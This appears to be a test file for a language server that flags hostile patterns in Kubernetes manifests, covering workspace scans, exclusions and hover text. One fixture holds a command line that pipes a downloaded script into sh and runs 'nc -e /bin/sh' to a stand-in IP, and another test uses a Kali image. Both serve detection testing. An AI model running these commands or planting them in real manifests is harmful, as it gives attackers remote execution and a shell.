// The workspace-wide scan (jobsentinel.scope: workspace, the default): findings of manifests nobody
// opened reach the editor's problems; excluded folders, over-size files and other YAML stay out; the
// published findings follow the files as they change on disk, are closed, or leave the scope.
// Also the compact hover when several findings share a spot.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { DidChangeWatchedFilesNotification, FileChangeType, HoverRequest, type MarkupContent } from 'vscode-languageserver-protocol/node.js';
import { LspSession, ROOT } from './session.js';

const cronJob = await readFile(join(ROOT, 'samples/reverse-shell-cronjob.yaml'), 'utf8');
const deployment = await readFile(join(ROOT, 'test/fixtures/editor/deployment.yaml'), 'utf8');
const benignJob = 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: report\nspec:\n  template:\n    spec:\n      containers:\n        - name: report\n          image: registry.example.com/reports/daily:2.1\n';

let folder: string;
const uriOf = (path: string) => pathToFileURL(join(folder, path)).href;

async function write(files: Record<string, string>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }
}

/** The last diagnostics published for a URI, waiting for the first publication. */
function lastPublished(session: LspSession, uri: string) {
  return session.waitFor(`diagnostics for ${uri}`, () => session.published.findLast((params) => params.uri === uri));
}

/** Waits until the server logged the end of its scan of the folder (it logs once per scan). */
function scanned(session: LspSession, times = 1) {
  return session.waitFor('the end of the workspace scan', () => (session.logs.filter((line) => line.includes('workspace scan of')).length >= times ? true : undefined));
}

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'jobsentinel-workspace-'));
  await write({
    'deploy/cronjobs/reverse-shell.yaml': cronJob,
    'deploy/report-job.yaml': benignJob,
    'deploy/web.yaml': deployment,
    'node_modules/chart/evil.yaml': cronJob,
    'vendor/evil.yaml': cronJob,
    'huge/evil.yaml': cronJob + '#'.repeat(2048) + '\n',
    'notes.txt': cronJob,
  });
});

after(() => rm(folder, { recursive: true, force: true }));

describe('workspace scope (the default)', () => {
  let session: LspSession;
  before(async () => {
    session = await LspSession.start({ workspaceFolder: folder, settings: { exclude: ['**/node_modules/**', 'vendor/**'], maxFileSizeKB: 1 } });
    await scanned(session);
  });
  after(() => session.stop());

  it('publishes the findings of a manifest that was never opened', async () => {
    const { diagnostics, version } = await lastPublished(session, uriOf('deploy/cronjobs/reverse-shell.yaml'));
    assert.equal(version, undefined, 'published for the file on disk, not for an open version');
    assert.ok(diagnostics.some((diagnostic) => diagnostic.code === 'shell-escape' && diagnostic.source === 'jobsentinel'));
  });

  it('publishes nothing for clean manifests, other YAML, other files, excluded folders or files over the size cap', () => {
    const published = new Set(session.published.map((params) => params.uri));
    for (const path of ['deploy/report-job.yaml', 'deploy/web.yaml', 'notes.txt', 'node_modules/chart/evil.yaml', 'vendor/evil.yaml', 'huge/evil.yaml']) {
      assert.ok(!published.has(uriOf(path)), `${path} has no diagnostics`);
    }
  });

  it('says which files were too large to scan instead of skipping them silently', () => {
    assert.ok(session.messages.some((message) => message.includes('huge/evil.yaml') && message.includes('1 KB')), session.messages.join('\n'));
  });

  it('re-checks a file changed on disk, and withdraws the findings of a deleted one', async () => {
    const uri = uriOf('deploy/report-job.yaml');
    await writeFile(join(folder, 'deploy/report-job.yaml'), benignJob.replace('registry.example.com/reports/daily:2.1', 'kalilinux/kali-rolling'));
    await session.connection.sendNotification(DidChangeWatchedFilesNotification.type, { changes: [{ uri, type: FileChangeType.Changed }] });
    const changed = await session.waitFor('findings for the changed file', () => session.published.findLast((params) => params.uri === uri && params.diagnostics.length > 0));
    assert.ok(changed.diagnostics.some((diagnostic) => diagnostic.code === 'attacker-tooling'));
    await rm(join(folder, 'deploy/report-job.yaml'));
    await session.connection.sendNotification(DidChangeWatchedFilesNotification.type, { changes: [{ uri, type: FileChangeType.Deleted }] });
    await session.waitFor('the findings withdrawn', () => (session.published.findLast((params) => params.uri === uri)?.diagnostics.length === 0 ? true : undefined));
  });

  it('gives a closed file back the findings of its text on disk, not of its unsaved edits', async () => {
    const uri = uriOf('deploy/cronjobs/reverse-shell.yaml');
    await session.open(uri, benignJob);
    assert.deepEqual((await session.diagnosticsFor(uri)).diagnostics, []);
    const seen = session.published.length;
    await session.close(uri);
    const reopened = await session.waitFor('diagnostics after closing', () => session.published.slice(seen).findLast((params) => params.uri === uri));
    assert.ok(reopened.diagnostics.some((diagnostic) => diagnostic.code === 'shell-escape'));
  });

  it('withdraws the findings of files that leave the scope when the settings change', async () => {
    const uri = uriOf('deploy/cronjobs/reverse-shell.yaml');
    await session.changeSettings({ scope: 'openFiles' });
    await session.waitFor('the findings withdrawn', () => (session.published.findLast((params) => params.uri === uri)?.diagnostics.length === 0 ? true : undefined));
  });
});

describe('openFiles scope', () => {
  it('publishes nothing for files that are not open', async () => {
    const session = await LspSession.start({ workspaceFolder: folder, settings: { scope: 'openFiles' } });
    try {
      const uri = uriOf('notes-open.yaml');
      await session.open(uri, cronJob);
      await session.diagnosticsFor(uri);
      assert.deepEqual(session.published.map((params) => params.uri), [uri]);
    } finally {
      await session.stop();
    }
  });
});

describe('compact hover', () => {
  // One command line, four findings over the same string: a download piped into a shell, and nc -e.
  const multi = [
    'apiVersion: batch/v1',
    'kind: Job',
    'metadata:',
    '  name: multi',
    'spec:',
    '  template:',
    '    spec:',
    '      containers:',
    '        - name: x',
    '          image: registry.example.com/tools/runner:1.0',
    '          command: ["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh; nc -e /bin/sh 203.0.113.9 4444"]',
    '',
  ].join('\n');

  it('shows one line per finding with a link to its details when several findings share the spot, and the full text for one', async () => {
    const session = await LspSession.start({ workspaceFolder: folder, settings: { scope: 'openFiles' } });
    try {
      const uri = uriOf('multi.yaml');
      await session.open(uri, multi);
      const { diagnostics } = await session.diagnosticsFor(uri);
      assert.ok(diagnostics.filter((diagnostic) => diagnostic.range.start.line === 10).length >= 2, 'several findings on line 11');
      const hover = await session.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: { line: 10, character: 50 } });
      const text = (hover?.contents as MarkupContent).value;
      const items = text.split('\n').filter((line) => line.startsWith('- '));
      assert.equal(items.length, diagnostics.filter((diagnostic) => diagnostic.range.start.line === 10).length, text);
      for (const item of items) assert.match(item, /^- \*\*[^*]+\*\* \(`[a-z-]+`, (error|warning|information|hint)\): .+ \[details\]\(https:\/\/\S+\)$/);
      assert.doesNotMatch(text, /Why it matters|False positives|Suppress/, 'the long explanations stay behind the links');

      // A single finding still gets the full explanation.
      const single = await session.connection.sendRequest(HoverRequest.type, {
        textDocument: { uri: uriOf('deploy/cronjobs/reverse-shell.yaml') },
        position: { line: 0, character: 0 },
      });
      assert.equal(single, null, 'no hover for a file that is not open');
      const one = uriOf('one.yaml');
      await session.open(one, cronJob);
      await session.diagnosticsFor(one);
      const imageLine = cronJob.split('\n').findIndex((line) => line.includes('image: debian'));
      const full = await session.connection.sendRequest(HoverRequest.type, { textDocument: { uri: one }, position: { line: imageLine, character: cronJob.split('\n')[imageLine].indexOf('debian') + 2 } });
      assert.match((full?.contents as MarkupContent).value, /Why it matters/);
    } finally {
      await session.stop();
    }
  });
});
